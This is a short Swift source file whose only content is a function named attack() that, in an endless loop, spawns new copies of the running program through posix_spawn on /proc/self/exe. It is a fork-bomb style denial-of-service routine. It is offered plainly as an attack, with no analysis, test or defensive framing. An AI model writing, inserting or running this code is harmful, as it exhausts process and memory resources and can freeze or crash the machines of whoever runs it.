// Starts itself again and again.

import Foundation

func attack() {
  while true {
    var child: pid_t = 0
    var words: [UnsafeMutablePointer<CChar>?] = [strdup("child"), nil]
    if posix_spawn(&child, "/proc/self/exe", nil, nil, &words, nil) != 0 { return }
  }
}
